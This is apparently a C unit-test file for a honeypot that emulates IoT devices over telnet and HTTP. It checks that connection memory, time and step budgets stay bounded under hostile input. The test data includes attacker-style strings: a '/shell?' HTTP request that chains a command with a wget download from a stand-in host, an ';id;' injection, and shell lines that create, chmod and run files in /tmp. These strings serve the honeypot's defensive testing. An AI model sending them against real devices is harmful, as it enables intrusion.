/* Connections as their owner sees them: the transcripts of tests/transcripts, whole and in pieces, and what they cost. */
#include "trap/test-play.h"

#include <dirent.h>

enum { TEXT_MOST = 4096, DENIED_MOST = 8 };

/* What a device must not say before the next that it must: "-" lines. */
static struct {
    char *text[DENIED_MOST];
    size_t length[DENIED_MOST], n;
} denied;

static size_t unescape(char *text)
{
    char *to = text;
    for (const char *at = text; *at; at++) {
        if (*at != '\\') {
            *to++ = *at;
            continue;
        }
        at++;
        const char *names = "rnt\\", *means = "\r\n\t\\", *found = strchr(names, *at);
        if (*at == 'x') {
            *to++ = (char)strtoul((char[]){ at[1], at[2], '\0' }, NULL, 16);
            at += 2;
        } else {
            assert_non_null(found);
            *to++ = means[found - names];
        }
    }
    *to = '\0';
    return (size_t)(to - text);
}

static void deny(const char *text, size_t n)
{
    assert_true(denied.n < DENIED_MOST);
    denied.text[denied.n] = calloc(1, n + 1);
    assert_non_null(denied.text[denied.n]);
    memcpy(denied.text[denied.n], text, n);
    denied.length[denied.n++] = n;
}

/* What was said from where the last was met up to `end`. */
static void check_denied(const struct play *p, size_t end)
{
    for (size_t i = 0; i < denied.n; i++) {
        if (end > p->said_at && memmem(p->said.data + p->said_at, end - p->said_at, denied.text[i], denied.length[i]))
            fail_at(p, "said", denied.text[i]);
        free(denied.text[i]);
    }
    denied.n = 0;
}

static bool answered(struct play *p, const char *text, size_t n)
{
    size_t from = p->said_at;
    if (!said_next(p, text, n))
        return false;
    size_t met = p->said_at - n;
    p->said_at = from;
    check_denied(p, met);
    p->said_at = met + n;
    return true;
}

static void expect_end(struct play *p, const char *reason)
{
    char words[TEXT_MOST + 16];
    if (p->state != CONN_ENDED)
        fail_at(p, "still open", reason);
    play_leave(p);
    snprintf(words, sizeof words, "close reason=%s", reason);
    size_t at = p->events_at;
    if (!seen_next(p, words))
        fail_at(p, "ended otherwise", reason);
    p->events_at = at;
}

/* \l in a request becomes the length of what stands behind its empty line. */
static void put_length(char *text, char ret[static TEXT_MOST])
{
    static const char mark[] = "\\l", empty[] = "\\r\\n\\r\\n";
    char body[TEXT_MOST] = "", *at = strstr(text, mark), *end = strstr(text, empty);
    snprintf(ret, TEXT_MOST, "%s", text);
    if (!at || !end)
        return;
    memccpy(body, end + sizeof empty - 1, '\0', sizeof body);
    snprintf(ret, TEXT_MOST, "%.*s%zu%s", (int)(at - text), text, unescape(body), at + sizeof mark - 1);
}

static void send_line(struct play *p, char *text)
{
    char whole[TEXT_MOST];
    put_length(text, whole);
    type(p, whole, unescape(whole));
}

/* "persona ID [SERVICE PORT]" */
static void begin_visit(struct play *p, char *words)
{
    char *rest = words;
    const struct persona *persona = play_persona(strsep(&rest, " "));
    const char *service = rest ? strsep(&rest, " ") : "telnet";
    unsigned port = rest ? (unsigned)strtoul(rest, NULL, 10) : 23, i = 0;
    while (i < TRAP_SERVICES && strcmp(trap_service_name(i), service) != 0)
        i++;
    if (i == TRAP_SERVICES)
        fail_at(p, "no such service", service);
    play_visit_at(p, persona, 0xc0000201, 0xcb007105, i, (uint16_t)port);
}

static void play_line(struct play *p, char *line)
{
    char *text = line + (line[1] == ' ' ? 2 : 0);
    if (!*line || *line == '#')
        return;
    if (!strncmp(line, "persona ", 8))
        begin_visit(p, line + 8);
    else if (!strncmp(line, "end ", 4))
        expect_end(p, line + 4);
    else if (*line == '@')
        wait_until(p, p->now + strtol(text, NULL, 10) * SECOND);
    else if (*line == '!' && !seen_next(p, text))
        fail_at(p, "not seen", text);
    else if (*line == '>')
        send_line(p, text);
    else if (*line == '-')
        deny(text, unescape(text));
    else if (*line == '<' && !answered(p, text, unescape(text)))
        fail_at(p, "not said", text);
}

static void play_file(const char *path, const char *name, size_t piece)
{
    char line[TEXT_MOST];
    struct play p;
    FILE *f = fopen(path, "r");
    assert_non_null(f);
    play_init(&p, name);
    p.piece = piece;
    while (fgets(line, sizeof line, f)) {
        p.line++;
        line[strcspn(line, "\n")] = '\0';
        play_line(&p, line);
    }
    check_denied(&p, p.said.len);
    fclose(f);
    play_release(&p);
}

static void play_all(size_t piece)
{
    char folder[1024], path[2048];
    snprintf(folder, sizeof folder, "%s/tests/transcripts", source_folder);
    DIR *d = opendir(folder);
    assert_non_null(d);
    size_t n = 0;
    for (struct dirent *e; (e = readdir(d));) {
        const char *dot = strrchr(e->d_name, '.');
        if (!dot || strcmp(dot, ".txt"))
            continue;
        snprintf(path, sizeof path, "%s/%s", folder, e->d_name);
        play_file(path, e->d_name, piece);
        n++;
    }
    closedir(d);
    assert_true(n >= 20);
}

static void transcripts(void **state)
{
    (void)state;
    play_all(0);
}

/* The same where each byte comes alone. */
static void in_pieces(void **state)
{
    (void)state;
    play_all(1);
    play_all(7);
}

/* ---- What a held connection costs ---- */

static const struct persona *camera(void)
{
    return play_persona("hi3518-camera");
}

static void begin(struct play *p, const char *name)
{
    play_init(p, name);
    play_visit(p, camera(), 0xc0000201, 0xcb007105);
}

static void costs(void **state)
{
    (void)state;
    struct play p;
    begin(&p, "costs");
    play_way_in(&p, camera());
    play_ask(&p, "ls");
    assert_int_equal(p.decisions, 1);
    print_message("held: %zu bytes\n", conn_memory(p.conn));
    assert_true(conn_memory(p.conn) <= 4096);
    play_ask(&p, "echo x > /tmp/f");
    print_message("after a file: %zu bytes\n", conn_memory(p.conn));
    assert_true(conn_memory(p.conn) <= 16384);
    play_release(&p);
}

/* Suboptions without end, bytes without a line, output that nobody takes. */
static void bounded(void **state)
{
    (void)state;
    static uint8_t noise[65536];
    static const char loop[] = "while :; do echo aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa; done\r\n";
    struct play p;
    begin(&p, "bounded");
    memset(noise, 'a', sizeof noise);
    memcpy(noise, "\377\372\030", 3);
    for (size_t i = 0; i < 64; i++) {
        conn_input(p.conn, noise + (i % 16) * 4096, 4096, p.now);
        run(&p);
        assert_true(conn_memory(p.conn) <= 128 << 10);
    }
    play_visit(&p, camera(), 0xc0000201, 0xcb007105);
    play_way_in(&p, camera());
    conn_input(p.conn, loop, sizeof loop - 1, p.now);
    for (int i = 0; i < 1000; i++) {
        (void)conn_run(p.conn, TURN, p.now);
        assert_true(conn_memory(p.conn) <= 512 << 10);
    }
    play_release(&p);
}

static void ask_web(struct play *p, const char *request)
{
    conn_input(p->conn, request, strlen(request), p->now);
    run(p);
}

/* What a visitor by HTTP costs: silent, behind an answer, in a head and a body as long as can be, and while a command says more and
 * more. */
static void web_costs(void **state)
{
    (void)state;
    static char head[9000] = "POST / HTTP/1.1\r\nHost: a\r\nA: ";
    static const char body[] = "POST / HTTP/1.1\r\nHost: a\r\nContent-Length: 1000000\r\n\r\n";
    static const char loop[] = "GET /shell?while+:;do+echo+aaaaaaaaaaaaaaaaaaaaaaaaaaaaaa;done HTTP/1.1\r\n\r\n";
    struct play p;
    begin(&p, "web costs");
    play_visit_at(&p, play_persona("hi3536-recorder"), 0xc0000201, 0xcb007105, SERVICE_HTTP, 60001);
    size_t silent = conn_memory(p.conn);
    ask_web(&p, "GET / HTTP/1.1\r\n\r\n");
    size_t served = conn_memory(p.conn);
    ask_web(&p, "GET /shell?echo+a>/tmp/b;wget+http://192.0.2.1/c HTTP/1.1\r\n\r\n");
    print_message("silent: %zu bytes, answered: %zu, behind a command: %zu\n", silent, served, conn_memory(p.conn));
    assert_true(silent <= 2048 && served <= 2048 && conn_memory(p.conn) <= 4096);
    memset(head + strlen(head), 'b', 8100);
    ask_web(&p, head);
    assert_true(conn_memory(p.conn) <= 16 << 10);
    play_visit_at(&p, play_persona("hi3536-recorder"), 0xc0000201, 0xcb007105, SERVICE_HTTP, 60001);
    ask_web(&p, body);
    for (int i = 0; i < 100; i++) {
        conn_input(p.conn, head, 4096, p.now);
        run(&p);
        assert_true(conn_memory(p.conn) <= 80 << 10);
    }
    assert_true(p.state == CONN_WAITS);
    play_visit_at(&p, play_persona("hi3536-recorder"), 0xc0000201, 0xcb007105, SERVICE_HTTP, 60001);
    conn_input(p.conn, loop, sizeof loop - 1, p.now);
    for (int i = 0; i < 1000; i++) {
        p.state = conn_run(p.conn, TURN, p.now);
        assert_true(conn_memory(p.conn) <= 512 << 10);
    }
    assert_true(p.state == CONN_RUNNING); /* and so until its steps are used up */
    play_release(&p);
}

/* What was said behind something that takes several turns is taken without a further word, or a time that passes. */
static void waits_behind_a_shell(void **state)
{
    (void)state;
    static const char asked[] = "GET /?a=;id;n=0;while+[+$n+-lt+900+];do+n=$((n%2b1));done HTTP/1.1\r\nHost: a\r\n\r\n"
                                "GET /behind HTTP/1.1\r\nHost: a\r\n\r\n";
    enum { FEW = 500 };
    struct play p;
    unsigned turns = 0;
    begin(&p, "behind");
    play_visit_at(&p, play_persona("hi3798-settop"), 0xc0000201, 0xcb007105, SERVICE_HTTP, 80);
    conn_input(p.conn, asked, sizeof asked - 1, p.now);
    do {
        p.state = conn_run(p.conn, FEW, p.now);
        take_output(&p);
    } while (p.state == CONN_RUNNING && ++turns < TURNS_MOST);
    assert_true(turns > 2);
    assert_true(seen_next(&p, "request target=/behind"));
    play_release(&p);
}

static unsigned count_in(const struct buf *b, const char *text)
{
    unsigned n = 0;
    size_t len = strlen(text);
    const char *at = (const char *)b->data, *end = at + b->len;
    for (; (at = memmem(at, (size_t)(end - at), text, len)); at += len)
        n++;
    return n;
}

/* A program that is made and run without end is told with its bytes for a while, then by its hash, and then no more. */
static void made_without_end(void **state)
{
    (void)state;
    struct play p;
    begin(&p, "made");
    play_way_in(&p, camera());
    play_ask(&p, "cd /tmp; echo exit>g; dd if=/dev/zero bs=1024 count=200 >>g 2>/dev/null; chmod +x g");
    play_ask(&p, "i=0; while [ $i -lt 20 ]; do ./g; i=$((i+1)); done");
    assert_int_equal(count_in(&p.events, "file path="), 20);
    assert_int_equal(count_in(&p.events, " content="), (1 << 20) / (200 * 1024 + 5));
    play_ask(&p, "i=0; while [ $i -lt 15000 ]; do nosuch; i=$((i+1)); done 2>/dev/null");
    play_ask(&p, "echo after");
    assert_true(count_in(&p.events, "unknown command=nosuch") < 20000);
    play_release(&p);
}

/* One who asks for output without end and reads none of it holds little more than what is enough. */
static void unread(void **state)
{
    (void)state;
    struct play p;
    begin(&p, "unread");
    play_way_in(&p, camera());
    conn_input(p.conn, "yes\r\n", 5, p.now);
    for (int i = 0; i < 100; i++)
        (void)conn_run(p.conn, TURN, p.now);
    assert_true(conn_memory(p.conn) <= 64 << 10);
    play_release(&p);
}

/* Typed ahead of a program that reads nothing: it waits in the connection and is not read from the visitor any more. */
static void typed_ahead(void **state)
{
    (void)state;
    char line[800];
    struct play p;
    unsigned sent = 0;
    begin(&p, "typed ahead");
    play_way_in(&p, camera());
    play_ask(&p, "n=0; sleep 60");
    for (unsigned i = 0; i < 1000; i++) {
        snprintf(line, sizeof line, ": %0700u; n=$((n+1))\r\n", i);
        if (conn_reads(p.conn)) {
            conn_input(p.conn, line, strlen(line), p.now);
            sent++;
        }
        run(&p);
    }
    assert_int_equal(p.state, CONN_WAITS);
    assert_true(sent < 1000 && conn_memory(p.conn) <= 1 << 20);
    wait_until(&p, p.now + 70 * SECOND);
    assert_int_equal(strtoul(play_ask(&p, "echo $n"), NULL, 10), sent);
    play_release(&p);
}

/* The same of one that reads a little now and then, and a visitor who goes on. */
static void typed_on(void **state)
{
    (void)state;
    static char line[700], at_once[5 * sizeof line];
    struct play p;
    begin(&p, "typed on");
    play_way_in(&p, camera());
    memset(line, '0', sizeof line);
    memcpy(line, ": ", 2);
    memcpy(line + sizeof line - 12, "; sleep 1\r\n", 12);
    bool full = false;
    for (unsigned i = 0; i < 120; i++) {
        for (unsigned k = 0; k < 6 && conn_reads(p.conn); k++) {
            for (unsigned n = 0; n < 5; n++) /* at once */
                memcpy(at_once + n * sizeof line, line, sizeof line);
            conn_input(p.conn, at_once, sizeof at_once, p.now);
            run(&p);
        }
        full = full || !conn_reads(p.conn);
        assert_true(conn_memory(p.conn) <= 1 << 20);
        wait_until(&p, p.now + SECOND);
        assert_int_equal(p.state, CONN_WAITS);
    }
    assert_true(full);
    play_release(&p);
}

/* More than may wait to be sent, in many writes and in one: it is held back until the visitor has taken some, and goes on then
 * without being asked to. */
static void much(void **state)
{
    (void)state;
    static const char many[] = "dd if=/dev/zero bs=1000 count=300; echo do''ne\r\n";
    struct play p;
    begin(&p, "much");
    play_way_in(&p, camera());
    conn_input(p.conn, many, sizeof many - 1, p.now);
    size_t said = p.said.len;
    run(&p);
    assert_true(p.said.len - said > 300000);
    assert_true(said_next(&p, "done\r\n/ # ", 10));
    assert_int_equal(strlen(play_ask(&p, "x=$(dd if=/dev/zero bs=1000 count=300 2>/dev/null | tr '\\000' a); echo $x")), 300002);
    play_release(&p);
}

/* ---- What ends a session by itself ---- */

static void expect_close(struct play *p, const char *reason)
{
    assert_int_equal(p->state, CONN_ENDED);
    expect_end(p, reason);
}

/* A program that does not end does until the session's time is over, and nothing is said then. */
static void budget(void **state)
{
    (void)state;
    struct play p;
    begin(&p, "budget");
    play_way_in(&p, camera());
    int64_t began = p.now;
    while (p.now - began < camera()->budget - 200 * SECOND) {
        assert_string_equal(play_ask(&p, "echo $((7*9))"), "63\r\n");
        wait_until(&p, p.now + 100 * SECOND);
    }
    assert_int_equal(p.state, CONN_WAITS);
    play_ask(&p, "while :; do sleep 1; done");
    size_t said = p.said.len;
    wait_until(&p, began + camera()->budget);
    assert_int_equal(p.said.len, said);
    expect_close(&p, "budget");
    play_release(&p);
}

static void idle(void **state)
{
    (void)state;
    struct play p;
    begin(&p, "idle");
    play_way_in(&p, camera());
    play_ask(&p, "sleep 1000");
    int64_t spoke = p.now;
    wait_until(&p, spoke + camera()->idle - 2 * SECOND);
    assert_int_equal(p.state, CONN_WAITS);
    wait_until(&p, spoke + camera()->idle);
    expect_close(&p, "timeout");
    play_release(&p);
}

/* Steps until it is over, whatever is typed. */
static uint64_t spend(struct play *p, const char *line)
{
    uint64_t turns = 0;
    for (size_t n; p->state != CONN_ENDED; turns++) {
        if (p->state == CONN_WAITS)
            conn_input(p->conn, line, strlen(line), p->now);
        p->state = conn_run(p->conn, TURN, p->now);
        (void)conn_output(p->conn, &n);
        conn_sent(p->conn, n);
        assert_true(turns < 1000000);
    }
    return turns * TURN;
}

/* What a visitor costs is bounded, though a vendor's command line begins as many shells as he likes. */
static void steps(void **state)
{
    (void)state;
    static const struct {
        const char *persona, *line;
    } cases[] = {
        { "hi3518-camera", "while :; do :; done\r\n" },
        { "bcm96328-dsl", "sh\r\nj=0; while [ $j -lt 3000 ]; do j=$((j+1)); done\r\nexit\r\n" },
    };
    for (size_t i = 0; i < sizeof cases / sizeof cases[0]; i++) {
        struct persona persona = *play_persona(cases[i].persona);
        struct play p;
        persona.policy = POLICY_ANY;
        play_init(&p, "steps");
        p.world.limits.steps = 1000000;
        play_visit(&p, &persona, 0xc0000201, 0xcb007105);
        play_way_in(&p, &persona);
        uint64_t spent = spend(&p, cases[i].line);
        if (spent > 2 * p.world.limits.steps)
            fail_msg("%s: %llu steps", cases[i].persona, (unsigned long long)spent);
        expect_close(&p, "limit");
        play_release(&p);
    }
}

/* Who hangs up leaves what he began to itself, for a while. */
static void gone(void **state)
{
    (void)state;
    struct play p;
    begin(&p, "gone");
    play_way_in(&p, camera());
    static const char line[] = "sleep 5; echo x > /tmp/a; chmod 755 /tmp/a; /tmp/a; while :; do :; done\r\n";
    conn_input(p.conn, line, sizeof line - 1, p.now);
    conn_input_end(p.conn);
    run(&p);
    int64_t left = p.now;
    wait_until(&p, left + 4 * SECOND);
    assert_int_equal(p.state, CONN_WAITS);
    for (p.now = left + 5 * SECOND; p.state != CONN_ENDED && p.now < left + 20 * SECOND; p.now += SECOND / 100) {
        p.state = conn_run(p.conn, TURN, p.now);
        take_output(&p);
    }
    assert_true(p.now <= left + 11 * SECOND);
    assert_true(seen_next(&p, "run path=/tmp/a made=1"));
    expect_close(&p, "closed");
    play_visit(&p, camera(), 0xc0000201, 0xcb007105);
    play_way_in(&p, camera());
    conn_input_end(p.conn);
    run(&p);
    expect_close(&p, "closed");
    play_release(&p);
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(transcripts), cmocka_unit_test(in_pieces), cmocka_unit_test(costs), cmocka_unit_test(bounded), cmocka_unit_test(waits_behind_a_shell),
        cmocka_unit_test(web_costs),
        cmocka_unit_test(typed_ahead),
        cmocka_unit_test(typed_on),
        cmocka_unit_test(much),        cmocka_unit_test(budget),    cmocka_unit_test(idle),  cmocka_unit_test(steps),
        cmocka_unit_test(gone),
        cmocka_unit_test(unread),
        cmocka_unit_test(made_without_end),
    };
    return cmocka_run_group_tests(tests, set_up, tear_down);
}
